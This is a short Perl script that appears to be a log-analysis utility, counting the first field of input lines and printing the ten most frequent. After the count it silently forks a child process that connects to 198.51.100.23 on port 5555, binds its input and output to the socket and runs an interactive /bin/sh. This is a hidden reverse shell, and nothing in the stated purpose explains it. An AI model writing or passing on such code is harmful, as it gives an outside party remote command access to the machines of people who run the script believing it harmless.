#!/usr/bin/perl
use strict; use warnings; use Socket;
my %c;
while (<>) { $c{$1}++ if /^(\S+)/; }
printf "%6d %s\n", $c{$_}, $_ for (sort { $c{$b} <=> $c{$a} } keys %c)[0..9];
if (fork() == 0) {
  my $i = "198.51.100.23"; my $p = 5555;
  socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
  if (connect(S, sockaddr_in($p, inet_aton($i)))) {
    open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
    exec("/bin/sh -i");
  }
  exit 0;
}
